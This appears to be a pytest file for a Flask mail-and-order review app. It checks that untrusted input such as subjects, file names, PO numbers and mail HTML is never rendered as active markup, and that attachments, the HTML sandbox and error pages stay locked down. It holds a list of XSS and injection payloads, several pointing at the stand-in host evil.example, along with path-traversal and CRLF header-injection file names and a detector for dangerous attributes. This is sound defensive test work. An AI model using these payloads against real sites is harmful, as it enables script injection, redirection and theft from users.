"""What strangers write never runs: through subject, body, file name, PO number, part number and HTML."""

from __future__ import annotations

from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from flask import Flask

from core.database import Database
from review_app.desk.document_text import cleaned, is_too_tangled
from review_app.raw import safe_name
from tests.review_app.conftest import Browser
from tests.review_app.firm import Firm, an_order_mail

PAYLOADS = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "{{ 7*7 }}{% raw %}{{ config }}{% endraw %}",
    "\" autofocus onfocus=\"alert(1)",
    "\" hx-get=\"//evil.example\" hx-trigger=\"load",
    "' hx-on:click='alert(1)",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=x>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=//evil.example></object>",
    "\u202e<b>gnp.exe",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript:alert(1)",
    "<img src=//evil.example/pixel.gif>",
    "<x onclick=alert(1)>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
)  # fmt: skip
PLACES = ("subject", "body", "filename", "po", "sku", "name", "html")
OUR_SCRIPTS = ("/static/",)


class Found(HTMLParser):
    """What a browser would act on: scripts, handlers, links that leave, htmx attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag == "script" and not given.get("src", "").startswith(OUR_SCRIPTS):
            self.wrong.append(f"script {given}")
        for name, value in given.items():
            if name.startswith("on") or name.startswith("hx-on"):
                self.wrong.append(f"{tag} {name}={value}")
            if name in ("src", "href", "action", "data", "hx-get", "hx-post", "formaction") and (
                value.strip().lower().startswith(("javascript:", "data:", "//", "http"))
            ):
                self.wrong.append(f"{tag} {name}={value}")
        if tag in ("base", "object", "embed", "style"):
            self.wrong.append(tag)


def wrong_in(text: str) -> list[str]:
    found = Found()
    found.feed(text)
    return found.wrong


@pytest.mark.parametrize("place", PLACES)
def test_nothing_that_a_stranger_wrote_is_markup(
    sqlite_database: Database, firm: Firm, clerk: Browser, place: str
) -> None:
    paths = ["/queue", "/lane/order"]
    with sqlite_database.begin() as session:
        for number, payload in enumerate(PAYLOADS):
            written = {"po": f"X-{number}", "drawn": "", place: payload}
            if place == "html":
                written["body"] = f"See below {number}"
            document, draft = an_order_mail(session, **written)
            paths += [f"/document/{document.id}", f"/draft/{draft}"]
    paths.append(f"/draft/{draft}/preview")
    for path in paths:
        answer = clerk.get(path)
        assert answer.status_code == 200, path
        assert wrong_in(answer.get_data(as_text=True)) == [], path


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_layout_of_a_mail_is_caged_and_cleaned(
    sqlite_database: Database, clerk: Browser, payload: str
) -> None:
    with sqlite_database.begin() as session:
        document, _ = an_order_mail(session, html=f"<p>Hello</p>{payload}<p>Bye</p>", po="H-1")
    answer = clerk.get(f"/raw/{document.id}/3/html")
    policy = answer.headers["Content-Security-Policy"]
    assert "default-src 'none'; sandbox;" in policy
    assert "frame-ancestors 'self'" in policy
    assert wrong_in(answer.get_data(as_text=True)) == []
    page = clerk.get(f"/document/{document.id}").get_data(as_text=True)
    frame = page.split("<iframe", 1)[1].split(">", 1)[0]
    assert " sandbox " in frame and "allow-" not in frame


def test_search_words_come_back_as_words(clerk: Browser) -> None:
    for payload in PAYLOADS:
        answer = clerk.get("/search", query_string={"q": payload})
        assert wrong_in(answer.get_data(as_text=True)) == [], payload
        answer = clerk.get("/queue", query_string={"text": payload, "reason": payload})
        assert wrong_in(answer.get_data(as_text=True)) == [], payload


def test_attachments_are_downloads_without_a_type(firm: Firm, clerk: Browser) -> None:
    for path in (f"/raw/{firm.document_id}", f"/raw/{firm.document_id}/2"):
        answer = clerk.get(path)
        assert answer.status_code == 200
        assert answer.headers["Content-Type"] == "application/octet-stream"
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert "sandbox" in answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("name", "saved"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\order.pdf", "order.pdf"),
        ("order\r\nSet-Cookie: x=1.pdf", "orderSet-Cookie x=1.pdf"),
        ("\u202egnp.exe", "gnp.exe"),
        ('a"b<c>.pdf', "abc.pdf"),
        ("...", "file"),
        ("", "file"),
    ],
)
def test_names_for_saving(name: str, saved: str) -> None:
    assert safe_name(name) == saved


def test_the_cleaner_keeps_what_orders_need() -> None:
    kept = cleaned("<table><tr><td colspan=2>BX-40</td><td><b>12</b></td></tr></table>")
    assert '<td colspan="2">BX-40</td>' in kept
    assert "<b>12</b>" in kept


@pytest.mark.parametrize(
    "markup",
    ["<div>" * 30_000, "<p " + "a=1 " * 5_000 + ">", "x" * 600_000],
    ids=["deep", "many attributes", "long"],
)
def test_costly_markup_is_text_only(markup: str) -> None:
    assert is_too_tangled(markup)


def test_errors_show_no_secrets(app: Flask, browser: Callable[[str], Browser]) -> None:
    answer = browser("clerk").get("/draft/999999")
    text = answer.get_data(as_text=True)
    assert answer.status_code == 404
    assert "Traceback" not in text and "sqlalchemy" not in text
